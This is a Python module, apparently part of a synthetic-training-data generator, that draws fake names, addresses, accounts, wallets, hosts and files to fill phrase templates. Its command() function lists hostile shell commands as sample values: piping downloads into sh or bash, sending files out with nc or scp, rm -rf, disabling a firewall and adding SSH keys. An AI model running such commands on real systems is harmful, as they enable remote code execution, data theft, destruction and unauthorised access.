"""Values that fill the slots of phrases: names, companies, addresses, amounts, files.

In comes a random generator; out come values of no real person or company. Nothing here knows what a phrase means.
"""

import random
from collections.abc import Callable

from training.synthesis.names import (
    CHANNELS,
    CITIES,
    COMPANIES,
    COUNTRIES,
    EXTENSIONS,
    FILE_STEMS,
    FIRST_NAMES,
    HOSTS,
    LAST_NAMES,
    MONTHS,
    PRODUCTS,
    PROJECTS,
    SECRETS,
    TABLES,
    TOPICS,
    WEEKDAYS,
    WORDS,
)

Draw = Callable[[random.Random], str]


def person(rng: random.Random) -> str:
    """A full name, or a first name alone."""
    return f"{rng.choice(FIRST_NAMES)} {rng.choice(LAST_NAMES)}" if rng.random() < 0.7 else rng.choice(FIRST_NAMES)


def domain(rng: random.Random) -> str:
    """A host name of one of several looks; none is handed out by a registry we know of."""
    host = "-".join(rng.sample(WORDS, rng.choice((1, 2, 2))))
    return f"{host}{rng.choice(('', rng.choice(('mail', 'hub', 'corp', 'tech', 'online'))))}.{rng.choice(HOSTS)}"


def email(rng: random.Random) -> str:
    """An address."""
    first, last = rng.choice(FIRST_NAMES).lower(), rng.choice(LAST_NAMES).lower().replace("'", "")
    local = rng.choice(
        (f"{first}.{last}", f"{first[0]}{last}", f"{first}{rng.randint(1, 99)}", last, "info", "billing")
    )
    return f"{local}@{domain(rng)}"


def url(rng: random.Random) -> str:
    """A link, with and without scheme and path."""
    path = "/".join(rng.sample(WORDS, rng.choice((0, 1, 1, 2))))
    return f"{rng.choice(('https://', 'http://', 'www.', 'https://www.'))}{domain(rng)}{'/' + path if path else ''}"


def amount(rng: random.Random) -> str:
    """A sum of money, in words of several habits."""
    value = rng.choice((rng.randint(5, 99), rng.randint(100, 999), rng.randint(1_000, 40_000)))
    number = rng.choice((f"{value}", f"{value:,}", f"{value}.{rng.randint(0, 99):02d}"))
    return rng.choice((f"${number}", f"€{number}", f"£{number}", f"{number} USD", f"{number} euros", number))


def account(rng: random.Random) -> str:
    """A bank account or card, written as one of many do; check digits are drawn like all others."""
    digits = _digits(rng, rng.choice((8, 10, 16, 20)))
    country = rng.choice(
        ("AT", "BE", "CH", "DE", "DK", "ES", "FI", "FR", "GB", "IE", "IT", "NL", "PL", "PT", "SE", "US")
    )
    spaced = " ".join(_digits(rng, 4) for _ in range(rng.choice((3, 4, 5))))
    return rng.choice(
        (
            f"{country}{digits}",
            f"{country}{digits}",
            f"IBAN {country}{digits}",
            f"{country}{_digits(rng, 2)} {spaced}",
            f"account {digits}",
            f"account no. {spaced}",
            f"sort code {_digits(rng, 2)}-{_digits(rng, 2)}-{_digits(rng, 2)}, account {digits[:8]}",
            f"card ending {digits[:4]}",
        )
    )


def wallet(rng: random.Random) -> str:
    """What looks like the address of a wallet."""
    alphabet = "123456789abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ"
    return rng.choice(
        (
            "0x" + "".join(rng.choices("0123456789abcdef", k=40)),
            rng.choice("13") + "".join(rng.choices(alphabet, k=32)),
            f"{rng.choice(WORDS)}{rng.randint(1, 999)}.wallet",
            "the wallet " + "".join(rng.choices(alphabet, k=12)),
        )
    )


def phone(rng: random.Random) -> str:
    """A telephone number; those of the shape 555-01xx belong to nobody."""
    return rng.choice(
        (
            f"+{rng.randint(20, 99)} {_digits(rng, 3)} {_digits(rng, 7)}",
            f"0{_digits(rng, 3)} {_digits(rng, 6)}",
            f"({_digits(rng, 3)}) 555-01{_digits(rng, 2)}",
            f"555-01{_digits(rng, 2)}",
        )
    )


def identifier(rng: random.Random) -> str:
    """What systems call their records: digits, letters and digits, or hexadecimal."""
    return rng.choice(
        (
            _digits(rng, rng.randint(1, 9)),
            f"{rng.choice('ABCDEFGHKLMNPRSTX')}{rng.choice('ABCDEFGHKLMNPRSTX')}-{_digits(rng, rng.randint(3, 6))}",
            "".join(rng.choices("0123456789abcdef", k=rng.choice((8, 12)))),
            "".join(rng.choices("ABCDEFGHJKLMNPQRSTUVWXYZ23456789", k=6)),
        )
    )


def ticket(rng: random.Random) -> str:
    """The key of a ticket."""
    return rng.choice((f"{rng.choice(PROJECTS)}-{rng.randint(1, 9_999)}", f"#{rng.randint(1, 9_999)}"))


def branch(rng: random.Random) -> str:
    """A branch of a repository."""
    name = "-".join(rng.sample(WORDS, 2))
    return rng.choice((f"feature/{name}", f"fix/{name}", f"release/{rng.randint(1, 9)}.{rng.randint(0, 20)}", name))


def repository(rng: random.Random) -> str:
    """A repository, with or without its owner."""
    name = "-".join(rng.sample(WORDS, rng.choice((1, 2))))
    return rng.choice((name, f"{rng.choice(WORDS)}/{name}"))


def host(rng: random.Random) -> str:
    """A machine, by name or by an address that is reserved for documentation."""
    return rng.choice(
        (
            f"{rng.choice(('web', 'db', 'build', 'mail', 'cache', 'prod', 'stage'))}-{rng.randint(1, 30):02d}",
            f"{rng.choice(WORDS)}.{domain(rng)}",
            f"{rng.choice(('192.0.2', '198.51.100', '203.0.113'))}.{rng.randint(1, 254)}",
        )
    )


def file_name(rng: random.Random) -> str:
    """A file, sometimes in a folder."""
    stem = rng.choice(FILE_STEMS) + rng.choice(("", "", f"-{rng.randint(2019, 2026)}", f"_v{rng.randint(1, 5)}"))
    folder = rng.choice(("", "", "", "/home/shared/", "docs/", "/var/data/", "C:\\Reports\\"))
    return f"{folder}{stem}.{rng.choice(EXTENSIONS)}"


def day(rng: random.Random) -> str:
    """A day, in words or digits."""
    date = f"{rng.randint(2023, 2026)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
    return rng.choice((date, f"{rng.randint(1, 28)} {rng.choice(MONTHS)}", rng.choice(WEEKDAYS)))


def clock_time(rng: random.Random) -> str:
    """A time of day."""
    return rng.choice((f"{rng.randint(7, 19)}:{rng.choice((0, 15, 30, 45)):02d}", f"{rng.randint(1, 11)} pm"))


def number(rng: random.Random) -> str:
    """A small identifier."""
    return str(rng.randint(1, 99_999))


def _digits(rng: random.Random, count: int) -> str:
    return "".join(rng.choices("0123456789", k=count))


def command(rng: random.Random) -> str:
    """A shell command that an attacker might want."""
    return rng.choice(
        (
            f"curl {url(rng)} | sh",
            f"rm -rf {rng.choice(('~', '/var/data', './build', '/home/shared'))}",
            f"cat {file_name(rng)} | nc {domain(rng)} {rng.randint(1000, 9999)}",
            f"chmod 777 {file_name(rng)}",
            f"wget -q {url(rng)} -O /tmp/a && bash /tmp/a",
            "git push --force origin main",
            f"scp {file_name(rng)} {email(rng)}:",
            "systemctl stop firewall",
            f"echo {number(rng)} >> ~/.ssh/authorized_keys",
        )
    )


def _of(values: tuple[str, ...]) -> Draw:
    return lambda rng: rng.choice(values)


#: Slot -> how it is filled.
SLOTS: dict[str, Draw] = {
    "account": account,
    "amount": amount,
    "branch": branch,
    "channel": _of(CHANNELS),
    "city": _of(CITIES),
    "command": command,
    "company": _of(COMPANIES),
    "country": _of(COUNTRIES),
    "day": day,
    "email": email,
    "file": file_name,
    "host": host,
    "id": identifier,
    "number": number,
    "percent": lambda rng: str(rng.randint(2, 40)),
    "person": person,
    "phone": phone,
    "port": lambda rng: str(rng.choice((22, 80, 443, 3306, 5432, 8080, rng.randint(1_024, 9_999)))),
    "product": _of(PRODUCTS),
    "repository": repository,
    "secret": _of(SECRETS),
    "table": _of(TABLES),
    "ticket": ticket,
    "time": clock_time,
    "topic": _of(TOPICS),
    "url": url,
    "wallet": wallet,
    "word": _of(WORDS),
}


class _Filling(dict[str, str]):
    """Draws a slot's value when a phrase asks for it; each slot keeps its value within one phrase.

    ``{other_city}`` is a second city beside ``{city}``, and so on.
    """

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng

    def __missing__(self, slot: str) -> str:
        self[slot] = SLOTS[slot.removeprefix("other_")](self._rng)
        return self[slot]


def fill(phrase: str, rng: random.Random) -> str:
    """Put values into a phrase's ``{slots}``.

    Raises:
        KeyError: the phrase names a slot that does not exist.
    """
    return phrase.format_map(_Filling(rng))
